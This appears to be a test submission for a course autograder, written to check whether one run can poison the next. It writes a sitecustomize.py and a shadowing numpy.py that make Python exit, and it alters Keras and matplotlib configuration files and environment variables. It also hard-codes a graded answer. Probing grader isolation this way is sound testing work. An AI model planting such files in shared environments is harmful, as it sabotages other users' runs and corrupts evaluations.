# Tries: to leave files that would change how the next submission starts or computes.
# Earns: states_by_hand
# Status: ok

# %%
import os


def poison():
    home = os.path.expanduser("~")
    files = {
        f"{home}/.keras/keras.json": '{"floatx": "float16", "backend": "torch"}',
        f"{home}/sitecustomize.py": "import os; os._exit(9)",
        "/tmp/course-attack-module.py": "raise SystemExit",
        f"{home}/.matplotlibrc": "backend: nothing",
        "/dev/shm/course-attack-shared": "x",
        "numpy.py": "raise SystemExit",
    }
    for path, text in files.items():
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        if not os.path.exists(path):
            with open(path, "w") as file:
                file.write(text)
    os.environ["TF_NUM_INTRAOP_THREADS"] = "0"
    os.environ["KERAS_BACKEND"] = "torch"
    return [[2, 0], [1, 1], [2.5, 0.5]]


# %%
states_by_hand = poison()
